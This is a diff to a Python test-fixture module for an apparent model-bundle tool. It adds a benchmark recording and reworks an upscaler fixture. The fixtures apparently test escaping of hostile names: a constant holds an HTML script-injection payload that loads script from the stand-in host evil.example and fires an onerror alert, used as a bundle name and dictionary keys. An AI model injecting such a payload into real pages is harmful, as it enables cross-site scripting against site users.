@@ -10,6 +10,7 @@ from contracts import changed, sealed, with_pairs, with_pictures
 from interpolators import make_interpolator
 from pocketlens.core.bundle import Bundle, write
 from pocketlens.core.card import Card, TrainingSet
+from pocketlens.core.contract import Recording
 
 HOSTILE = "</td><script src=//evil.example/x.js></script><img src=//evil.example/y onerror=alert(1)>"
 CARD = Card(intended_use="Tests & nothing else", data=[TrainingSet(name="T91", licence="research only")])
@@ -24,14 +25,29 @@ QUALITY = {
     HOSTILE: {"psnr_y_fp32": 1.0, HOSTILE: 2.0},
 }
 
+RECORDING = Recording(
+    engine="openvino",
+    version="2026.2",
+    precision="int8",
+    threads=1,
+    processor="Elsewhere, 2 cores",
+    reference="convolutions",
+    ratio=1.25,
+    noise=0.017,
+    memory_mib=98.4,
+)
+
 
 def upscaler(folder: Path) -> Path:
     """A bundle with samples, a contract and a card, and with all the names that a stranger may choose."""
     graphs = {"fp32": upscaler_graph(), "int8": upscaler_graph(seed=1)}
-    bundle = with_pictures(make_bundle(folder / "plain.plens", graphs=graphs), 3)
-    return _written(
-        folder / "up.plens", changed(sealed(bundle), name=HOSTILE, quality=QUALITY, card=CARD, provenance=ORIGIN)
-    )
+    bundle = sealed(with_pictures(make_bundle(folder / "plain.plens", graphs=graphs), 3))
+    contract = bundle.manifest.contract
+    assert contract
+    sets = {**contract.sets, "Set14": contract.sets["samples"]}
+    contract = contract.model_copy(update={"sets": sets, "recordings": [RECORDING]})
+    facts = {"name": HOSTILE, "quality": QUALITY, "card": CARD, "provenance": ORIGIN, "contract": contract}
+    return _written(folder / "up.plens", changed(bundle, **facts))
 
 
 def interpolator(folder: Path) -> Path:
